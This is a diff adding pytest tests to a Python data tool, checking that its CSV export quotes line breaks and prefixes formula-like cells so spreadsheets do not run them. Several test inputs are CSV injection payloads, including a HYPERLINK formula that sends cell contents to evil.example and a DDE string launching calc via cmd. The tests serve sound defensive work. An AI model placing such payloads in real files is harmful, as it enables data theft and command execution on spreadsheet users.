@@ -265,3 +265,71 @@ def test_an_empty_path_is_a_bad_argument(option: str, tmp_path: Path) -> None:
     assert result.stderr == (f"policydata trend: error: argument {option}: an empty path; "
                              "give a folder or file\n")
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("plain", "plain"),
+    ("alpha\rbeta", '"alpha\rbeta"'),  # a lone CR is a line end to readers: quoted
+    ("alpha\nbeta", '"alpha\nbeta"'),
+    ("alpha\r\nbeta", '"alpha\r\nbeta"'),
+    ('=HYPERLINK("https://evil.example/?d="&A2,"Click")',
+     '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")"'),
+    ("@SUM(1+1)", "'@SUM(1+1)"),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "\"'\r=1+1\""),
+    ("-2.5", "-2.5"),  # a plain number stays as it is
+    ("+7", "+7"),
+    ("-1e-3", "-1e-3"),
+    ("-.5", "-.5"),
+    ("-", "'-"),
+    ("a=b", "a=b"),
+    (" =1", " =1"),
+    ("", ""),
+])
+def test_csv_cells_cannot_split_rows_or_run_as_formulas(cell: str, written: str) -> None:
+    import pandas as pd
+
+    from policydata.columns import csv_text, frame_csv
+
+    frame = pd.DataFrame({"term": [cell], "count": [-1], "docs": [2], "score": [-2.5]})
+    assert csv_text(frame, "top") == f"term,count,docs,score\n{written},-1,2,-2.5\n"
+    assert frame_csv(frame.rename(columns={"term": "other"})) == (
+        f"other,count,docs,score\n{written},-1,2,-2.5\n")
+    # read back, each is one row holding what was written (less the quote, for formulas)
+    (row,) = rows(csv_text(frame, "top"))
+    assert row["term"] in (cell, "'" + cell) and row["score"] == "-2.5"
+
+
+def test_frame_csv_neutralises_text_of_any_column(tmp_path: Path) -> None:
+    import datetime as dt
+
+    import pandas as pd
+
+    from policydata.columns import frame_csv
+
+    frame = pd.DataFrame({
+        "when": [dt.date(2023, 9, 2), dt.date(2023, 9, 3)],
+        "mixed": pd.Series(["@x", 5], dtype=object),
+        "label": pd.Categorical(["=a", "b"]),
+        "flag": [True, False],
+        "change": [-0.5, 1.0],
+        7: ["-x", "y"],
+    })
+    assert frame_csv(frame) == ("when,mixed,label,flag,change,7\n"
+                                "2023-09-02,'@x,'=a,True,-0.5,'-x\n"
+                                "2023-09-03,5,b,False,1.0,y\n")
+
+
+def test_cli_csv_is_safe_in_spreadsheets_and_json_is_as_written(tmp_path: Path,
+                                                               cache: Path) -> None:
+    corpus = tmp_path / "c"
+    corpus.mkdir()
+    title = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
+    (corpus / "a.txt").write_text(f" date 2023-09-02 {title}\n\nThe digital economy.\n")
+    out = run("articles", "--corpus", str(corpus), "--format", "csv", cache=cache).stdout
+    assert [r["title"] for r in rows(out)] == ["'" + title]
+    data = json.loads(run("articles", "--corpus", str(corpus), "--format", "json",
+                          cache=cache).stdout)
+    assert [r["title"] for r in data] == [title]
